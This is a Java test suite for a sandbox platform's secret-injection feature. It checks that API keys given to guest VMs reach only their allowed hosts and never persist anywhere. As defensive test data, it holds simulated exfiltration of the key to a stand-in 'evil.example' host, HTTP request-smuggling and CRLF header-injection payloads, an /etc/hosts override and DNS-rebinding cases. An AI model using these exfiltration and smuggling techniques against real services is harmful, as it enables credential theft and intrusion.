package dev.podflare.tests;

import static dev.podflare.tests.GuestProbe.bash;
import static dev.podflare.tests.GuestProbe.python;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.podflare.client.ApiException;
import dev.podflare.client.GitCloneOptions;
import dev.podflare.client.NetworkPolicy;
import dev.podflare.client.Sandbox;
import dev.podflare.client.SandboxOptions;
import dev.podflare.client.SecretInfo;
import dev.podflare.client.SecretOptions;
import dev.podflare.client.SnapshotOptions;
import dev.podflare.engine.EngineConfig;
import dev.podflare.engine.GuestNetworkConfig;
import dev.podflare.network.ProxySettings;
import dev.podflare.network.SlotLimits;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.ResourceLock;

/**
 * Secrets that guests use and never have: real guests, real clients, real servers with TLS. The
 * value is looked for wherever bytes are kept, and sent to wherever it must not go.
 */
@OnPlatform
@ResourceLock(SecretSite.LOCK)
@Order(44)
class SecretsTest {
  private static final String API = "api.example";
  private static final String EVIL = "evil.example";
  private static final int PLAIN = 8090;

  /** What a program in the guest does; the answer's text, or why there is none. */
  private static final String ATTEMPTS =
      """
      import json, os, socket, ssl, urllib.request, urllib.error
      def get(url, headers={}, context=None):
          try:
              request = urllib.request.Request(url, headers=headers)
              return urllib.request.urlopen(request, timeout=60, context=context).read().decode()
          except urllib.error.HTTPError as error:
              return f'{error.code} {error.read().decode()}'
          except OSError as error:
              return type(getattr(error, 'reason', error)).__name__
      def anyone():
          context = ssl.create_default_context()
          context.check_hostname = False
          context.verify_mode = ssl.CERT_NONE
          return context
      def raw(address, sni, data, context=None):
          try:
              with socket.create_connection((address, 443), 60) as plain:
                  with (context or anyone()).wrap_socket(plain, server_hostname=sni) as tls:
                      tls.sendall(data)
                      got = b''
                      while part := tls.recv(65536):
                          got += part
                      return got.decode()
          except OSError as error:
              return type(error).__name__
      """;

  @TempDir static Path folder;
  @TempDir static Path data;
  private static final TestInternet INTERNET = TestInternet.get();
  private static TestPlatform platform;
  private static SecretSite api;
  private static SecretSite evil;
  private static SecretSite plain;

  private final String value = "sk" + UUID.randomUUID().toString().replace("-", "");

  @BeforeAll
  static void start() throws Exception {
    SecretSite.Certificate good =
        SecretSite.Certificate.make(
            folder, API, "rebind.example", "moved.example", "rotated.example", "*.wild.example");
    SecretSite.Certificate bad = SecretSite.Certificate.make(folder, EVIL);
    Path trusted = folder.resolve("trusted.pem");
    Files.writeString(trusted, Files.readString(good.pem()) + Files.readString(bad.pem()));
    INTERNET.names.put(API, TestInternet.SERVER);
    INTERNET.names.put("deep.wild.example", TestInternet.SERVER);
    INTERNET.names.put(EVIL, TestInternet.OTHER_SERVER);
    api = SecretSite.tls(INTERNET, TestInternet.SERVER, 443, good);
    evil = SecretSite.tls(INTERNET, TestInternet.OTHER_SERVER, 443, bad);
    plain = SecretSite.plain(INTERNET, TestInternet.SERVER, PLAIN);
    GuestNetworkConfig network =
        new GuestNetworkConfig(
            Optional.empty(),
            List.of(),
            SlotLimits.DEFAULT,
            List.of(new InetSocketAddress(TestInternet.address(TestInternet.RESOLVER), 53)),
            new ProxySettings(Optional.empty(), Optional.empty(), List.of(), List.of(trusted)),
            true,
            Optional.of(INTERNET.hostNamespace()));
    platform = TestPlatform.start(data, config -> with(config, network));
  }

  private static EngineConfig with(EngineConfig config, GuestNetworkConfig network) {
    return config.withNetwork(Optional.of(network));
  }

  @AfterAll
  static void stop() {
    platform.close();
    List.of(api, evil, plain).forEach(SecretSite::close);
  }

  @BeforeEach
  void forget() {
    List.of(api, evil, plain).forEach(it -> it.seen.clear());
  }

  private SecretOptions secret(String... hosts) {
    return SecretOptions.header("API_KEY", List.of(hosts), "Authorization", "Bearer " + value);
  }

  private Sandbox create(SandboxOptions.Builder options) {
    Sandbox sandbox = platform.client.create(options.build());
    python(sandbox, ATTEMPTS);
    return sandbox;
  }

  private Sandbox create() {
    return create(SandboxOptions.builder().secrets(List.of(secret(API))));
  }

  private static String get(Sandbox sandbox) {
    return python(sandbox, "print(get('https://api.example/v1'))");
  }

  private static List<String> authorization(SecretSite site) {
    return site.seen.stream().flatMap(it -> it.field("authorization").stream()).toList();
  }

  private static void refused(Runnable call, String code) {
    assertThatThrownBy(call::run)
        .isInstanceOfSatisfying(ApiException.class, e -> assertThat(e.code()).isEqualTo(code));
  }

  @Test
  void requestsToItsHostCarryItAndTheGuestHasAPlaceholder() throws Exception {
    try (Sandbox sandbox = create()) {
      SecretInfo info = sandbox.secrets().getFirst();
      assertThat(python(sandbox, "print(os.environ['API_KEY'])")).isEqualTo(info.placeholder());
      assertThat(bash(sandbox, "echo $API_KEY")).isEqualTo(info.placeholder());
      assertThat(get(sandbox)).isEqualTo("fine");
      assertThat(
              python(
                  sandbox,
                  "print(get('https://api.example/v1',"
                      + " {'Authorization': 'Bearer ' + os.environ['API_KEY']}))"))
          .isEqualTo("fine");
      assertThat(authorization(api)).containsExactly("Bearer " + value, "Bearer " + value);
      // Without the variable OpenSSL looks into its folder; both have the authority.
      assertThat(
              bash(
                  sandbox,
                  "env -u SSL_CERT_FILE python3 -c 'import urllib.request as u;"
                      + " print(u.urlopen(\"https://api.example/v1\").read().decode())'"))
          .isEqualTo("fine");
      SecretInfo used = sandbox.secrets().getFirst();
      assertThat(used.uses()).isEqualTo(3);
      assertThat(used.lastUsedAt()).isPresent();
      assertThat(used.hosts()).containsExactly("api.example:443");
      assertThat(used.header()).contains("Authorization");
      assertThat(used.toString()).doesNotContain(value);
      assertThat(sandbox.info().toString()).doesNotContain(value);
      nowhere(sandbox);
    }
  }

  @Test
  void theQueryCarriesItAndEachNameBelowADomain() {
    SecretOptions query =
        SecretOptions.query("KEY", List.of("*.wild.example"), "api_key", value + "&x");
    try (Sandbox sandbox = create(SandboxOptions.builder().secrets(List.of(query)))) {
      assertThat(python(sandbox, "print(get('https://deep.wild.example/q?a=1'))"))
          .isEqualTo("fine");
      assertThat(api.seen.iterator().next().target()).isEqualTo("/q?a=1&api_key=" + value + "%26x");
    }
  }

  @Test
  void nobodyElseGetsIt() throws Exception {
    try (Sandbox sandbox = create()) {
      String key = "os.environ['API_KEY']";
      String all = "{'Authorization': 'Bearer ' + " + key + ", 'X-Key': " + key + "}";
      // another host, with a certificate of its own
      python(sandbox, "print(get('https://evil.example/', " + all + ", anyone()))");
      assertThat(evil.seen).hasSize(1);
      // a redirect to another host, which urllib follows with its headers
      python(
          sandbox,
          "print(get('https://api.example/r?to=https://evil.example/stolen', "
              + all
              + ", anyone()))");
      assertThat(evil.seen).hasSize(2);
      // without TLS, on a port of its own host and on the usual one
      sandbox.putSecret(secret(API, API + ":" + PLAIN));
      python(sandbox, "print(get('http://api.example:" + PLAIN + "/', " + all + "))");
      assertThat(plain.seen).hasSize(1);
      python(sandbox, "print(get('http://api.example/', " + all + "))");
      // another host's name in the request, and in the handshake
      String misdirected =
          python(
              sandbox,
              "print(raw('"
                  + TestInternet.SERVER
                  + "', 'api.example', b'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection:"
                  + " close\\r\\n\\r\\n'))");
      assertThat(misdirected).startsWith("HTTP/1.1 421").contains("misdirected");
      python(
          sandbox,
          "print(raw('"
              + TestInternet.OTHER_SERVER
              + "', 'evil.example', b'GET / HTTP/1.1\\r\\nHost: api.example\\r\\nConnection:"
              + " close\\r\\nAuthorization: ' + "
              + key
              + ".encode() + b'\\r\\n\\r\\n'))");
      // headers that two servers would read differently
      for (String smuggled :
          List.of(
              "Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET",
              "Host: evil.example\\r\\n\\r\\n",
              "X: a\\nHost: evil.example\\r\\n\\r\\n",
              " folded: x\\r\\n\\r\\n")) {
        assertThat(
                python(
                    sandbox,
                    "print(raw('"
                        + TestInternet.SERVER
                        + "', 'api.example', b'POST / HTTP/1.1\\r\\nHost: api.example\\r\\n"
                        + smuggled
                        + "'))"))
            .startsWith("HTTP/1.1 400");
      }
      assertThat(evil.got(value)).as("%s", evil.seen).isFalse();
      assertThat(plain.got(value)).as("%s", plain.seen).isFalse();
      assertThat(sandbox.secrets().getFirst().refused()).isPositive();
      nowhere(sandbox);
    }
  }

  @Test
  void namesThatLeadElsewhereLeadNowhere() {
    INTERNET.names.put("rebind.example", TestInternet.PRIVATE);
    INTERNET.names.put("moved.example", TestInternet.OTHER_SERVER);
    SecretOptions all = secret(API, "rebind.example", "moved.example");
    try (Sandbox sandbox = create(SandboxOptions.builder().secrets(List.of(all)))) {
      // the guest's own word about a name: the gate looks it up itself
      bash(sandbox, "echo " + TestInternet.OTHER_SERVER + " api.example >> /etc/hosts");
      assertThat(get(sandbox)).isEqualTo("fine");
      assertThat(api.seen).hasSize(1);
      // a name that is led into a private network
      assertThat(
              python(
                  sandbox,
                  "print(raw('"
                      + TestInternet.SERVER
                      + "', 'rebind.example', b'GET / HTTP/1.1\\r\\nHost: rebind.example\\r\\n"
                      + "\\r\\n'))"))
          .startsWith("HTTP/1.1 502")
          .contains("host_unreachable");
      // a name that is led to another's server, which has no certificate for it
      assertThat(python(sandbox, "print(get('https://moved.example/'))"))
          .startsWith("502")
          .contains("certificate_refused");
      assertThat(evil.seen).isEmpty();
      assertThat(api.seen).hasSize(1);
    }
  }

  @Test
  void aSandboxWithoutGitSaysSo() {
    try (Sandbox sandbox = create(SandboxOptions.builder())) {
      refused(
          () -> sandbox.gitClone(GitCloneOptions.of("https://api.example/a.git").withToken(value)),
          "git_not_available");
      assertThat(sandbox.secrets()).isEmpty();
    }
  }

  @Test
  void thePolicyDecidesNotTheSecret() {
    SandboxOptions.Builder options =
        SandboxOptions.builder().secrets(List.of(secret(API))).network(NetworkPolicy.shut());
    try (Sandbox sandbox = create(options)) {
      assertThat(get(sandbox)).isEqualTo("gaierror");
      sandbox.setNetwork(NetworkPolicy.only(List.of(API)));
      assertThat(get(sandbox)).isEqualTo("fine");
      sandbox.setNetwork(NetworkPolicy.openBut(List.of(API)));
      assertThat(get(sandbox)).isEqualTo("gaierror");
      assertThat(authorization(api)).containsExactly("Bearer " + value);
    }
  }

  @Test
  void aSecretIsAddedChangedAndRevokedLive() throws Exception {
    try (Sandbox sandbox = create(SandboxOptions.builder())) {
      // a program that runs on, and keeps one connection where it can
      python(
          sandbox,
          """
          import http.client
          def kept(path):
              connection.request('GET', path); answer = connection.getresponse(); answer.read()
              return answer.status
          """);
      SecretInfo added = sandbox.putSecret(secret(API));
      python(sandbox, "connection = http.client.HTTPSConnection('api.example', timeout=60)");
      assertThat(python(sandbox, "print(kept('/1'))")).isEqualTo("200");
      String other = "sk" + UUID.randomUUID().toString().replace("-", "");
      SecretInfo changed =
          sandbox.putSecret(
              SecretOptions.header("API_KEY", List.of(API), "Authorization", "Bearer " + other));
      assertThat(changed.placeholder()).isEqualTo(added.placeholder());
      assertThat(changed.createdAt()).isEqualTo(added.createdAt());
      assertThat(python(sandbox, "print(kept('/2'))")).isEqualTo("200");
      assertThat(authorization(api)).containsExactly("Bearer " + value, "Bearer " + other);
      String placeholder = python(sandbox, "print(os.environ['API_KEY'])");
      sandbox.deleteSecret("API_KEY");
      assertThat(sandbox.secrets()).isEmpty();
      refused(() -> sandbox.deleteSecret("API_KEY"), "secret_not_found");
      api.seen.clear();
      python(
          sandbox,
          "print(get('https://api.example/3', {'Authorization': '"
              + placeholder
              + "'}, anyone()))");
      assertThat(authorization(api)).containsExactly(placeholder);
      nowhere(sandbox);
      assertThat(SecretSearch.files(data, List.of(), other)).isEmpty();
    }
  }

  @Test
  void copiesOfAllKindsUseItAndNoneHasIt() throws Exception {
    SandboxOptions.Builder options =
        SandboxOptions.builder().persistent(true).undo(2).secrets(List.of(secret(API)));
    try (Sandbox sandbox = create(options)) {
      String marker = "mark" + UUID.randomUUID().toString().replace("-", "");
      python(sandbox, "marker = '" + marker + "'; open('/root/marker', 'w').write(marker)");
      assertThat(get(sandbox)).isEqualTo("fine");
      String placeholder = sandbox.secrets().getFirst().placeholder();
      Sandbox child = sandbox.fork(1).getFirst();
      assertThat(get(child)).isEqualTo("fine");
      assertThat(child.secrets().getFirst().placeholder()).isEqualTo(placeholder);
      nowhere(child);
      child.deleteSecret("API_KEY");
      assertThat(sandbox.secrets()).as("a child's are its own").hasSize(1);
      child.delete();

      sandbox.snapshot(SnapshotOptions.named("with-secret"));
      try (Sandbox copy =
          platform.client.create(SandboxOptions.builder().snapshot("with-secret").build())) {
        assertThat(get(copy)).isEqualTo("fine");
        nowhere(copy);
      }
      sandbox.freeze();
      assertThat(sandbox.secrets()).as("also of a frozen one").hasSize(1);
      assertThat(SecretSearch.checkpoints(data, value)).isEmpty();
      assertThat(SecretSearch.checkpoints(data, marker)).as("it finds what is there").isNotEmpty();
      assertThat(get(sandbox)).isEqualTo("fine");
      assertThat(SecretSearch.memory(platform.machine(sandbox).pid(), marker))
          .as("it finds what is there")
          .isNotEmpty();
      nowhere(sandbox);

      sandbox.rollback("with-secret");
      assertThat(get(sandbox)).isEqualTo("fine");
      python(sandbox, "n = 1");
      sandbox.undo(1);
      assertThat(get(sandbox)).isEqualTo("fine");
      sandbox.pause();
      sandbox.resume();
      assertThat(get(sandbox)).isEqualTo("fine");
      Sandbox winner = sandbox.fork(1).getFirst();
      sandbox.mergeInto(winner);
      assertThat(get(sandbox)).isEqualTo("fine");
      nowhere(sandbox);
      assertThat(authorization(api)).hasSize(8).containsOnly("Bearer " + value);
      platform.client.snapshots().list().forEach(it -> platform.client.snapshots().delete(it.id()));
    }
    assertThat(SecretSearch.files(data, List.of(), value)).isEmpty();
  }

  @Test
  void whatWasTakenAwayDoesNotComeBackWithAnOlderSpace() throws Exception {
    try (Sandbox sandbox = create()) {
      sandbox.freeze();
      // It is taken away from a frozen one, which is not woken for it.
      sandbox.deleteSecret("API_KEY");
      assertThat(sandbox.info().state()).isEqualTo("frozen");
      assertThat(sandbox.secrets()).isEmpty();
      String space = platform.client.spaces().list().getFirst().id();
      try (Sandbox resumed = platform.client.spaces().resume(space)) {
        assertThat(resumed.secrets()).isEmpty();
        // It speaks with the server itself now, whose certificate it does not know.
        assertThat(get(resumed)).isEqualTo("SSLCertVerificationError");
      }
      assertThat(authorization(api)).isEmpty();
    }
  }

  /** Neither memory, nor disk, nor records, nor stored checkpoints, nor logs have the value. */
  private void nowhere(Sandbox sandbox) throws IOException {
    bash(sandbox, "sync");
    long pid = platform.machine(sandbox).pid();
    assertThat(SecretSearch.memory(pid, value)).isEmpty();
    assertThat(SecretSearch.files(data, List.of(pid), value)).isEmpty();
    assertThat(SecretSearch.checkpoints(data, value)).isEmpty();
  }

  @Test
  void whatIsNoSecretIsRefusedAndNotRepeated() {
    try (Sandbox sandbox = create(SandboxOptions.builder())) {
      for (SecretOptions bad :
          List.of(
              SecretOptions.header("A", List.of(API), "Host", value),
              SecretOptions.header("A", List.of(API), "Content-Length", value),
              SecretOptions.header("A", List.of(API), "Transfer-Encoding", value),
              SecretOptions.header("A", List.of(API), "X y", value),
              SecretOptions.header("A", List.of(API), "X-Key", value + "\r\nHost: evil.example"),
              SecretOptions.header("A", List.of(API), "X-Key", value + "é"),
              SecretOptions.header("A", List.of(API), "X-Key", ""),
              SecretOptions.header("A", List.of(API), "X-Key", value.repeat(300)),
              SecretOptions.header("A", List.of(), "X-Key", value),
              SecretOptions.header("A", List.of("203.0.113.10"), "X-Key", value),
              SecretOptions.header("A", List.of("*.example"), "X-Key", value),
              SecretOptions.header("A", List.of("api.example:80"), "X-Key", value),
              SecretOptions.header("A-B", List.of(API), "X-Key", value),
              SecretOptions.query("A", List.of(API), "a&b", value))) {
        assertThatThrownBy(() -> sandbox.putSecret(bad))
            .isInstanceOfSatisfying(
                ApiException.class,
                e -> {
                  assertThat(e.code()).as("%s", bad).isEqualTo("invalid_field");
                  assertThat(e + " " + e.details()).doesNotContain(value);
                });
      }
      for (int i = 0; i < 32; i++) {
        sandbox.putSecret(SecretOptions.header("S" + i, List.of(API), "X-" + i, value));
      }
      refused(() -> sandbox.putSecret(secret(API)), "too_many_secrets");
    }
  }
}
